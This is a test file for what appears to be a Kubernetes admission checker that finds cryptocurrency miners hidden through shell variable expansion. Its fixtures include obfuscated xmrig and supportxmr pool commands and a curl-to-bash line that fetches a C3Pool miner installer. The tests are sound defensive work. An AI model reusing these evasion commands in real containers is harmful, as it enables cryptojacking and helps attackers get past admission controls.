// A script joins names from variables it sets itself, not only from env values: `A=supp;
// B=ortxmr; exec svc -o pool.$A$B.com` runs the pool with no env entry at all. Assignments a
// script makes (at a command's start, with `export`, `local`, `readonly`) are read in order, as
// the shell reads them, in `sh -c` scripts and in mounted files the container runs.
import t from 'tap'
import { ExpansionAllowance } from '../../src/detect/expansion.ts'
import { BUDGET_REFUSAL } from '../../src/detect/review-budget.ts'
import { expandScriptVariables } from '../../src/detect/shell-expansion.ts'
import { evaluate } from '../../src/engine/evaluate.ts'
import type { KubeObject, V1Container } from '../../src/workloads/kubernetes.ts'
import { growthRatio, LINEAR_RATIO_LIMIT, repeatedTo } from '../helpers/linear-cost.ts'
import { minerSignals } from '../helpers/miner-signals.ts'
import { defaultPolicies } from '../helpers/server.ts'

const policySet = await defaultPolicies()
const SETUP = 'C3Pool/xmrig_setup/master/setup_c3pool_miner.sh'

const verdicts = (container: Partial<V1Container>, spec: object = {}, related: KubeObject[] = []) => minerSignals(policySet, container, { spec, related })

const scripts: [string, RegExp][] = [
  ['A=supp; B=ortxmr; exec /opt/svc -o pool.$A$B.com -u worker1', /mining pool "pool\.supportxmr\.com"/],
  [`M=mr\nexec /opt/bin/x\${M}ig --donate-level 1`, /miner program "xmrig"/],
  [`export H=raw.githubusercontent; curl -sL https://$H.com/${SETUP} | bash`, /downloads a miner installer/],
  [`A='supp'"ortxmr"; D=.com; /opt/svc -o "pool.$A$D" -u worker1`, /mining pool "pool\.supportxmr\.com"/],
  ['P=pool.supportxmr; readonly P; T=$P.com; /opt/svc -o "$T" -u worker1', /mining pool "pool\.supportxmr\.com"/],
  [`if true; then X=xm; fi && /opt/bin/\${X}rig --donate-level 1`, /miner program "xmrig"/],
]

t.test('names joined from variables a sh -c script sets itself are read', async (t) => {
  for (const [script, sign] of scripts) {
    const found = verdicts({ command: ['sh', '-c', script] })
    t.equal(found[0]?.action, 'deny', `${JSON.stringify(script)}: ${JSON.stringify(found)}`)
    t.match(found[0]?.message, sign, script)
  }
})

t.test('names joined from variables a mounted script sets itself are read', async (t) => {
  const spec = { volumes: [{ name: 's', configMap: { name: 'boot' } }] }
  for (const [script, sign] of scripts) {
    const configMap: KubeObject = {
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: 'boot', namespace: 'ns' },
      data: { 'run.sh': `#!/bin/sh\n${script}\n` },
    }
    const found = verdicts({ command: ['sh', '/scripts/run.sh'], volumeMounts: [{ name: 's', mountPath: '/scripts' }] }, spec, [configMap])
    t.equal(found[0]?.action, 'deny', `${JSON.stringify(script)}: ${JSON.stringify(found)}`)
    t.match(found[0]?.message, sign, script)
  }
})

t.test('an ordinary script that sets variables is admitted', async (t) => {
  for (const script of [
    'PORT=8080; HOST=0.0.0.0; exec /app/server --listen=$HOST:$PORT --name="$HOSTNAME"',
    'set -e\nCONFIG=/etc/app/app.yaml\nexport LOG_LEVEL=info\n[ -f "$CONFIG" ] && exec /app/server --config="$CONFIG"',
  ]) {
    t.same(verdicts({ command: ['sh', '-c', script] }), [], script)
  }
})

t.test('variables are read in order: a use before the assignment sees the earlier value', async (t) => {
  const allowance = new ExpansionAllowance()
  const env = new Map([['A', 'env']])
  t.equal(expandScriptVariables(`echo $A; A=one; echo $A; A="t"wo; echo \${A}`, env, allowance), 'echo env; A=one; echo one; A="t"wo; echo two')
  t.equal(expandScriptVariables('--name=x $name', env, allowance), '--name=x $name', 'an option with = is no assignment')
  t.equal(expandScriptVariables('no assignment $A', env, allowance), 'no assignment env')
})

t.test('a script that doubles a variable again and again is refused at the expansion cap, not expanded', async (t) => {
  const found = verdicts({ command: ['sh', '-c', `X=xxxxxxxxxxxxxxxx; ${'X=$X$X; '.repeat(40)}echo $X`] })
  t.equal(found[0]?.action, 'deny')
  t.match(found[0]?.message, /shell expansion takes this container's text past the cap/)
})

t.test('reading the assignments of a script stays linear in their number', async (t) => {
  for (const unit of ['A=x;$A ', 'export B="y" ', 'C=$C; ']) {
    const ratio = growthRatio(
      (size) => repeatedTo(unit, size),
      (text) => expandScriptVariables(text, new Map(), new ExpansionAllowance()),
    )
    t.ok(ratio < LINEAR_RATIO_LIMIT, `${JSON.stringify(unit)}: cost ratio ${ratio.toFixed(1)}`)
  }
})

// Other ways a script sets a value (docs/detection.md, "Script variables"): appended with `+=`,
// read from a here-string, printed into a variable, or taken from the default of an unset one.
const otherAssignments: string[] = [
  'A=supp; A+=ortxmr; exec /opt/svc -o pool.$A.com -u worker1',
  'read A <<< supportxmr; exec /opt/svc -o pool.$A.com -u worker1',
  'read -r A <<< "supportxmr"; exec /opt/svc -o pool.$A.com -u worker1',
  'printf -v A supportxmr; exec /opt/svc -o pool.$A.com -u worker1',
  "printf -v A '%s' supportxmr; exec /opt/svc -o pool.$A.com -u worker1",
  `exec /opt/svc -o pool.\${POOL:-supportxmr}.com -u worker1`,
  `A=\${UNSET-supp}ortxmr; exec /opt/svc -o pool.$A.com -u worker1`,
  `A=; exec /opt/svc -o pool.\${A:=supportxmr}.com -u worker1`,
]

t.test('a value appended, read from a here-string, printed into a variable or given as a default is read', async (t) => {
  for (const script of otherAssignments) {
    const found = verdicts({ command: ['sh', '-c', script] })
    t.equal(found[0]?.action, 'deny', `${JSON.stringify(script)}: ${JSON.stringify(found)}`)
    t.match(found[0]?.message, /mining pool "pool\.supportxmr\.com"/, script)
  }
})

t.test('a set value wins over a default, an empty one does not where the default says `:`', async (t) => {
  const allowance = new ExpansionAllowance()
  const env = new Map([
    ['SET', 'value'],
    ['EMPTY', ''],
  ])
  t.equal(
    expandScriptVariables(`\${SET:-d} \${EMPTY:-d} \${EMPTY-d} \${UNSET-d} \${UNSET:-$SET} \${UNSET:+d}`, env, allowance),
    `value d  d \${UNSET:-value} \${UNSET:+d}`,
    'a default that expands again stays, its variable expanded',
  )
  t.equal(expandScriptVariables('read A B <<< "x y"; echo $A', env, allowance), 'read A B <<< "x y"; echo $A', 'read into two names is not read')
  t.equal(expandScriptVariables('read A; echo $A', env, allowance), 'read A; echo $A', 'read from stdin sets nothing known')
})

t.test('ordinary defaults, here-strings and appends in a script are admitted', async (t) => {
  for (const script of [
    `PORT=\${PORT:-8080}; HOST=\${HOST:-0.0.0.0}; OPTS="-Xmx512m"; OPTS+=" -Dfile.encoding=UTF-8"; exec java $OPTS -jar /app.jar --server.port=$PORT`,
    'read -r VERSION <<< "$(cat /app/VERSION)"; printf -v BANNER "app %s" "$VERSION"; echo "$BANNER"; exec /app/server',
  ]) {
    t.same(verdicts({ command: ['sh', '-c', script] }), [], script)
  }
})

t.test('appends, here-strings and defaults stay linear and a doubling append is refused at the cap', async (t) => {
  for (const unit of ['A+=x;$A ', 'read A <<< x; ', `\${U:-x} `, 'printf -v A x; ']) {
    const ratio = growthRatio(
      (size) => repeatedTo(unit, size),
      (text) => {
        try {
          expandScriptVariables(text, new Map(), new ExpansionAllowance())
        } catch {
          // A refusal at the cap is an answer too; the cost to reach it is what is measured.
        }
      },
    )
    t.ok(ratio < LINEAR_RATIO_LIMIT, `${JSON.stringify(unit)}: cost ratio ${ratio.toFixed(1)}`)
  }
  const found = verdicts({ command: ['sh', '-c', `X=xxxxxxxxxxxxxxxx; ${'X+=$X; '.repeat(40)}echo $X`] })
  t.match(found[0]?.message, /shell expansion takes this container's text past the cap/)
})

t.test('a script in an annotation run by container after container costs no more once the review budget is spent', async (t) => {
  // Each container reads the downwardAPI file as its own script; past the budget, building its expanded texts is waste.
  // A smaller budget than the default keeps the test quick: the budget holds eight containers' scripts either way.
  const reviewBudget = 512 * 1024
  const podWith = (containers: number) => {
    const script = repeatedTo('A=$A;', 64 * 1024)
    const list = Array.from({ length: containers }, (_, index) => ({
      name: `c${index}`,
      image: 'debian:12-slim',
      command: ['sh', '/info/run'],
      volumeMounts: [{ name: 'info', mountPath: '/info' }],
    }))
    const volumes = [{ name: 'info', downwardAPI: { items: [{ path: 'run', fieldRef: { fieldPath: "metadata.annotations['run']" } }] } }]
    return {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'p', namespace: 'ns', annotations: { run: script } },
      spec: { containers: list, volumes },
    } as KubeObject
  }
  const cost = (object: KubeObject) => {
    let best = Number.POSITIVE_INFINITY
    for (let run = 0; run < 3; run++) {
      const start = process.cpuUsage()
      evaluate({ object, reviewBudget }, policySet)
      const { user, system } = process.cpuUsage(start)
      best = Math.min(best, user + system)
    }
    return best
  }
  const few = podWith(40)
  const many = podWith(160)
  const refused = evaluate({ object: many, reviewBudget }, policySet).findings.filter((finding) => finding.message.includes(BUDGET_REFUSAL))
  t.ok(refused.length > 100, `${refused.length} containers refused for the budget`)
  // Bounded by the budget: four times the containers cost about the same, where building each container's texts made it four times.
  const ratio = cost(many) / cost(few)
  t.ok(ratio < 2, `cost ratio ${ratio.toFixed(1)} for 4x the containers`)
})

t.test('a script the kubelet builds from an env value with $(VAR) is unquoted as the shell will unquote it', async (t) => {
  const env = [{ name: 'S', value: "exec ./svc -o pool.supp''ortxmr.com:443" }]
  const found = verdicts({ env, command: ['sh', '-c', '$(S)'] })
  t.equal(found[0]?.action, 'deny')
  t.match(found[0]?.message, /pool\.supportxmr\.com/)
  t.same(
    verdicts({ env: [{ name: 'S', value: "echo 'hello world'" }], command: ['sh', '-c', '$(S)'] }),
    [],
    'an ordinary quoted script from an env value is admitted',
  )
})

t.test('a quote that arrives as a value is no quote to the shell: it cannot break the reading of the quotes around it', async (t) => {
  const script = `A=supp; Q="'"; echo $Q; exec ./svc -o pool.$A"ortxmr".com:443 $Q`
  t.equal(verdicts({ command: ['sh', '-c', script] })[0]?.action, 'deny', 'set by the script')
  const env = [
    { name: 'A', value: 'supp' },
    { name: 'Q', value: "'" },
  ]
  t.equal(verdicts({ env, command: ['sh', '-c', 'echo $Q; exec ./svc -o pool.$A"ortxmr".com:443 $Q'] })[0]?.action, 'deny', 'from env values')
  t.same(verdicts({ env, command: ['sh', '-c', 'echo "$Q" and $A"-ordinary" text'] }), [], 'an ordinary script with such a value is admitted')
})
